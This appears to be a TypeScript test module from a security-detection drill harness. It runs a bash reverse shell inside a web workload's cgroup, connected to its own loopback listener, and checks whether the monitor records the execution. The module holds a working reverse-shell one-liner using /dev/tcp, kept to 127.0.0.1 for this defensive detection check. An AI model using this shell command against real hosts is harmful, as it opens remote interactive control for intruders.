import { access, constants } from 'node:fs/promises';

import { shellWord } from '../shell-word.ts';
import { type DrillResult, found, missed, skipped } from './drill-result.ts';
import { type DrillScene, FOUND_WITHIN_MS } from './drill-scene.ts';
import { inWorkload } from './in-workload.ts';
import { listenOnLoopback } from './loopback-listener.ts';
import { poll } from './poll.ts';
import { runBounded } from './run-bounded.ts';
import { drillEvents, findingOf } from './stored-findings.ts';

const BASH = '/bin/bash';
/** The way that most write-ups have it; start-up files stay unread. */
const REVERSE = 'exec bash --norc --noprofile -i >& "/dev/tcp/127.0.0.1/$1" 0>&1';
/** A little longer than it is looked for: the shell is ended by the drill, not by its time. */
const SECONDS_MAX = FOUND_WITHIN_MS / 1_000 + 15;

/** A shell that takes its commands from a connection, to the drill's own listener. */
export async function shellStep(scene: DrillScene, cgroup: string): Promise<DrillResult> {
  const { folder, keeper, stop, clock } = scene;
  if (!(await isThere(BASH))) return skipped('shell', `it needs ${BASH}, for its /dev/tcp`);
  const listener = await listenOnLoopback();
  try {
    const sinceMs = clock.epochMs();
    const startMs = clock.monotonicMs();
    const command = [BASH, '--norc', '--noprofile', '-c', REVERSE, 'bash', String(listener.port)];
    scene.say(`a listener of the drill waits at 127.0.0.1:${listener.port}, and will say “id”`);
    scene.say(`${command.map(shellWord).join(' ')}    # in the web workload`);
    const argv = inWorkload(cgroup, command);
    const running = runBounded({ argv, secondsMax: SECONDS_MAX, folder, keeper });
    const finding = await poll(
      async () => {
        const events = await drillEvents(scene, sinceMs);
        return findingOf(scene, events.filter(isShell));
      },
      { forMs: FOUND_WITHIN_MS, stop },
    );
    const ms = clock.monotonicMs() - startMs;
    await listener.close();
    await running.ended;
    scene.say('the listener said “exit”; the shell is gone');
    if (finding !== undefined) return found('shell', { finding, ms });
    return missed('shell', 'no execution of it was told');
  } finally {
    await listener.close();
  }
}

/** Neither what the web workload is played by, nor what the shell was told to run. */
function isShell({ event }: { readonly event: { readonly exe: string } }): boolean {
  return event.exe.endsWith('/bash');
}

async function isThere(program: string): Promise<boolean> {
  try {
    await access(program, constants.X_OK);
    return true;
  } catch {
    return false;
  }
}
